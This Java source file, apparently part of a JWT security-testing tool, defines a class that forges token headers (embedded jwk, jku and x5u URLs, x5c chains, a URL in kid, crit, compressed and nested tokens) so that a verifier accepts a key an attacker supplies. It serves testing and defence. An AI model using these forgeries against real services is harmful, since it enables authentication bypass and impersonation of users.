package dev.gatecrash.internal.token.forgery;

import com.nimbusds.jose.util.DeflateUtils;
import com.nimbusds.jose.util.JSONObjectUtils;
import dev.gatecrash.internal.key.CompactJws;
import dev.gatecrash.internal.key.SignatureKey;
import dev.gatecrash.internal.token.attacker.Attacker;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Header parameters that lead a verifier to the attacker's key, or to read the token in another way. */
final class HeaderForgery {

    private final Attacker attacker;

    HeaderForgery(Attacker attacker) {
        this.attacker = attacker;
    }

    void jwk(Draft draft) {
        signed(draft, "jwk", attacker.keyLike(draft.key).publicJwk().toJSONObject());
    }

    void jku(Draft draft) {
        signed(draft, "jku", attacker.keySetUrl().toString());
    }

    void x5u(Draft draft) {
        SignatureKey key = attacker.certifiedKeyLike(draft.key);
        signed(draft, "x5u", attacker.certificateUrl(key).toString(), key);
    }

    void x5c(Draft draft) {
        SignatureKey key = attacker.certifiedKeyLike(draft.key);
        signed(draft, "x5c", attacker.certificates(key), key);
    }

    void keyIdUrl(Draft draft) {
        signed(draft, "kid", attacker.keyUrl(draft.key).toString());
    }

    static Change critical(String name, Object value) {
        return Change.header("crit", List.of(name)).and(Change.header(name, value));
    }

    static void compressed(Draft draft) {
        draft.header.put("zip", "DEF");
        draft.sealWith(input -> CompactJws.sign(draft.header, deflated(draft.claims), draft.key));
    }

    void nested(Draft draft) {
        SignatureKey foreign = attacker.keyLike(draft.key);
        draft.header.put("cty", "JWT");
        draft.sealWith(input -> {
            Map<String, Object> inner = new LinkedHashMap<>(draft.header);
            inner.remove("cty");
            String good = CompactJws.sign(CompactJws.signingInput(inner, draft.claims), draft.key);
            return CompactJws.sign(draft.header, good.getBytes(StandardCharsets.US_ASCII), foreign);
        });
    }

    private void signed(Draft draft, String parameter, Object value) {
        signed(draft, parameter, value, attacker.keyLike(draft.key));
    }

    private static void signed(Draft draft, String parameter, Object value, SignatureKey key) {
        draft.header.put("alg", key.algorithm().getName());
        draft.header.put(parameter, value);
        draft.sealWith(input -> CompactJws.sign(input, key));
    }

    private static byte[] deflated(Map<String, Object> claims) {
        try {
            return DeflateUtils.compress(JSONObjectUtils.toJSONString(claims).getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
